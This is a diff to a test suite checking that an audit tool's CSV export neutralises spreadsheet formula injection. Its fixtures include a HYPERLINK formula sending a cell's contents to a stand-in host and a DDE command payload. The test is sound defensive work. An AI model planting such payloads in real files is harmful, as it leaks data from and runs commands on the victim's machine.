@@ -8,6 +8,7 @@ import { csvNumber, csvRow } from '../../src/audit/csv.js';
 import { exportLines } from '../../src/audit/export.js';
 import { actionsReport } from '../../src/cli/commands/report/actions.js';
 import { actionTrackerProjection, listActions } from '../../src/projections/action-tracker/index.js';
+import { peopleProjection } from '../../src/projections/people/index.js';
 import { project, storeWith } from '../projections/given.js';
 
 const HYPERLINK = '=HYPERLINK("http://x/?"&A1,"open")';
@@ -48,7 +49,8 @@ const actionEvents = [
 describe('CSV out of the ledger', () => {
   it('neutralises a formula in an action title and an owner in `report actions --format csv`', async () => {
     const store = await storeWith([{ occurredAt: '2016-10-27' }, actionEvents]);
-    const db = await project(store, [actionTrackerProjection]);
+    // The tracker names owners as the people directory does, so it reads the people read model too.
+    const db = await project(store, [actionTrackerProjection, peopleProjection]);
     const csv = actionsReport.csv(listActions(db, {}));
     expect(csv).toContain(`"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
     expect(csv).toContain(`'+cmd|' /C calc'!A0`);
